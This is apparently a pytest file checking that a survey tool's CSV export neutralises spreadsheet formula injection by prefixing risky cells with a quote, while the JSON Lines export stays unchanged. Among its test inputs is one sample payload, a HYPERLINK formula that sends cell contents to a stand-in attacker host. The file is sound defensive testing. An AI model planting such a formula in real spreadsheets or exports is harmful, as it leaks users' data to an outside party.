"""The CSV export cannot be turned into spreadsheet formulas by what people typed.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
a formula to Excel, LibreOffice and Google Sheets (CSV injection): such text
cells get a leading ``'`` as OWASP recommends, so they show as typed and never
run. Numbers stay numbers, and the JSON Lines export stays exactly as stored.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from ecoute.output import csv_cell, write_export
from ecoute.wiring import Ecoute
from tests.conftest import Person

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def export(ecoute: Ecoute, fmt: str) -> str:
    """Return the whole export in ``fmt``."""
    out = io.StringIO()
    with ecoute.db.transaction() as session:
        write_export(session, out, fmt, None)
    return out.getvalue()


@pytest.mark.parametrize("typed", [FORMULA, "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)"])
def test_text_a_spreadsheet_would_run_is_exported_as_text(ecoute: Ecoute, typed: str) -> None:
    ana = Person(ecoute.engine)
    ana.send(command="start", argument="nps", context="@shop12")
    ana.says("3")
    ana.says(typed)
    row = next(csv.DictReader(io.StringIO(export(ecoute, "csv"))))
    assert row["answers.why_detractor"] == "'" + typed
    assert row["context"] == "'@shop12"
    assert row["answers.score"] == "3"
    record = json.loads(export(ecoute, "jsonl").splitlines()[0])
    assert record["answers"]["why_detractor"] == typed
    assert record["context"] == "@shop12"


def test_ordinary_text_is_exported_unchanged(ecoute: Ecoute) -> None:
    ana = Person(ecoute.engine)
    ana.says("start nps")
    ana.says("9")
    ana.says("Quick & friendly = great, 10/10")
    row = next(csv.DictReader(io.StringIO(export(ecoute, "csv"))))
    assert row["answers.why_promoter"] == "Quick & friendly = great, 10/10"
    assert row["answers.score"] == "9"


@pytest.mark.parametrize(("value", "cell"), [
    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("=", "'="), ("a=b", "a=b"),
    ("", ""), (None, ""), (-3, "-3"), (2.5, "2.5"), ("'quoted", "'quoted"),
])
def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_read_a_formula(
        value: object, cell: str) -> None:
    assert csv_cell(value) == cell
